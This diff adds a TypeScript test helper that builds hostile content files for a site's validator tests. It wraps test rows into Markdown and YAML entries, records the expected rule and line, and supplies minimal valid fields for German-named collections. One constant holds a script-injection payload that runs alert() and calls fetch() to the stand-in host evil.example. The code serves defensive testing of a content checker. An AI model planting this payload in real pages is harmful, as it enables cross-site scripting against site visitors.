@@ -1,0 +1,188 @@
+/**
+ * One hostile input and what it must end as, and how the tables of the corpus become inputs.
+ *
+ * A row says `harmless`, or the rule that refuses it with its line: `html 3`. Lines count from the
+ * first line of the row itself, wherever it stands in the file.
+ */
+import type { Rule } from '#domain/finding.ts';
+import { collections, endingOf, type CollectionName } from '#schemas/collections.ts';
+
+export interface HostileInput {
+  kind: string;
+  /** What it tries, in a few words. */
+  name: string;
+  /** Path from the root of the project. */
+  file: string;
+  content: Content;
+  expected: Expected;
+  /** How many lines of the file stand above the first line of the row. */
+  linesAbove: number;
+}
+
+/** A link on the disk points at `target`, as seen from its own folder. */
+export type Content = string | Uint8Array | { target: string };
+
+export type Expected = 'harmless' | `${Rule} ${number}`;
+
+/** What it tries, its text, what it must end as. */
+export type Row = [name: string, text: string, expected: Expected];
+
+/** Sets a mark, opens a dialog and asks somebody else: one of them is noticed. Holds no `"`. */
+export const attack = "top.ran=1;alert(1);fetch('https://evil.example/ran')";
+
+/** Texts below the head of a Seite. */
+export function inBody(kind: string, rows: readonly Row[]): HostileInput[] {
+  return rows.map(([name, body, expected], index) => {
+    const above = `---\n${toLines(least.seiten)}\n---\n\n`;
+    return toInput(kind, name, 'seiten', index, above, `${body}\n`, expected);
+  });
+}
+
+/** List items of a Protokoll, each of which becomes a page element with an address of its own. */
+export function inPoint(kind: string, rows: readonly Row[]): HostileInput[] {
+  return inProtokoll(
+    kind,
+    rows.map(([name, text, expected]) => [name, `- ${text.replaceAll('\n', '\n  ')}`, expected]),
+    '## Rahmen\n\n### Informationen\n\n',
+  );
+}
+
+/** Bodies of a Protokoll. */
+export function inProtokoll(kind: string, rows: readonly Row[], before = ''): HostileInput[] {
+  return rows.map(([name, body, expected], index) => {
+    const above = `---\n${toLines(least.protokolle)}\n---\n\n${before}`;
+    return toInput(kind, name, 'protokolle', index, above, `${body}\n`, expected);
+  });
+}
+
+/** Lines of YAML that stand in a head in the place of the fields of the same name. */
+export function inFields(
+  kind: string,
+  collection: CollectionName,
+  rows: readonly Row[],
+): HostileInput[] {
+  return rows.map(([name, lines, expected], index) => {
+    const isYaml = endingOf(collection) === 'yaml';
+    const others = toLines(without(least[collection], lines));
+    const end = isYaml ? '\n' : `\n---\n${leastBodies[collection] ?? ''}`;
+    const rest = `\n${others}${end}`;
+    return toInput(kind, name, collection, index, isYaml ? '' : '---\n', lines + rest, expected);
+  });
+}
+
+/** Files as they are, wherever they lie. */
+export function asFiles(
+  kind: string,
+  rows: readonly [name: string, file: string, content: Content, expected: Expected][],
+): HostileInput[] {
+  return rows.map(([name, file, content, expected]) => ({
+    kind,
+    name,
+    file,
+    content,
+    expected,
+    linesAbove: 0,
+  }));
+}
+
+/** Whole files of an entry, whose name does not matter. */
+export function asEntries(kind: string, rows: readonly Row[]): HostileInput[] {
+  return rows.map(([name, text, expected], index) =>
+    toInput(kind, name, 'seiten', index, '', text, expected),
+  );
+}
+
+/** In single quotation marks, between which YAML knows nothing but the quotation mark. */
+export function quote(text: string): string {
+  return `'${text.replaceAll("'", "''")}'`;
+}
+
+function toInput(
+  kind: string,
+  name: string,
+  collection: CollectionName,
+  index: number,
+  above: string,
+  text: string,
+  expected: Expected,
+): HostileInput {
+  const stem = kind.toLowerCase().replaceAll(/[^a-z]+/g, '-');
+  const file = `src/content/${collection}/${stem}-${index + 1}.${endingOf(collection)}`;
+  const linesAbove = above.split('\n').length - 1;
+  return { kind, name, file, content: above + text, expected, linesAbove };
+}
+
+function toLines(fields: Record<string, string>): string {
+  return Object.entries(fields)
+    .map(([key, value]) => `${key}: ${value}`)
+    .join('\n');
+}
+
+function without(fields: Record<string, string>, lines: string): Record<string, string> {
+  const own = new Set([...lines.matchAll(/^["']?(\w+)["']?:/gm)].map(([, key]) => key));
+  return Object.fromEntries(Object.entries(fields).filter(([key]) => !own.has(key)));
+}
+
+const isPublic = { sichtbarkeit: 'oeffentlich' };
+
+/** The least that an entry must say, over the entries of the real content. */
+export const least = {
+  protokolle: {
+    titel: 'Probe',
+    datum: '2019-04-03',
+    ort: 'Erfurt',
+    format: 'arbeitstreffen',
+    zustand: 'endgueltig',
+    quelle: 'Probe',
+    ...isPublic,
+  },
+  'best-practice': {
+    titel: 'Probe',
+    thema: 'netzwerkarbeit',
+    kernaussage: 'Probe.',
+    status: 'aktuell',
+    belege: "[{ fundstelle: '2013-07-17-weimar#t1-g1' }]",
+    verantwortlich: 'Koordinierungsstelle',
+    aufgenommenAm: '2026-01-01',
+    ...isPublic,
+  },
+  erfahrungen: {
+    titel: 'Probe',
+    standort: 'weimar',
+    von: "'2013'",
+    ergebnis: 'gelungen',
+    geschehen: 'Probe.',
+    gemeldetAm: '2026-01-01',
+    thema: 'netzwerkarbeit',
+    ...isPublic,
+  },
+  standorte: { name: 'Probe', ort: 'Probe', ...isPublic },
+  indikatoren: {
+    standort: 'weimar',
+    werte: '[{ indikator: bevoelkerung, jahr: 2019, jahrArt: genannt, wert: 4039, quelle: Probe }]',
+    ...isPublic,
+  },
+  termine: { titel: 'Probe', beginn: '2026-12-01', art: 'veranstaltung', ...isPublic },
+  ausgaben: {
+    titel: 'Probe',
+    nummer: '%NUMMER%',
+    datum: '2026-11-21',
+    anmerkung: 'Probe',
+    ...isPublic,
+  },
+  themen: {
+    titel: 'Probe',
+    kuerzel: '%KUERZEL%',
+    reihenfolge: '90',
+    beschreibung: 'Probe',
+    ...isPublic,
+  },
+  seiten: { titel: 'Probe', beschreibung: 'Eine Probe.', ...isPublic },
+  glossar: { begriff: 'Probebegriff %NUMMER%', erklaerung: 'Probe.', ...isPublic },
+} as const satisfies Record<keyof typeof collections, Record<string, string>>;
+
+const leastBodies: Partial<Record<CollectionName, string>> = {
+  protokolle: '\n## Rahmen\n\n### Informationen\n\n- Probe\n',
+  'best-practice':
+    '\n## Empfehlung\n\nProbe.\n\n## Bedingungen\n\nProbe.\n\n## Stolpersteine\n\nProbe.\n',
+};
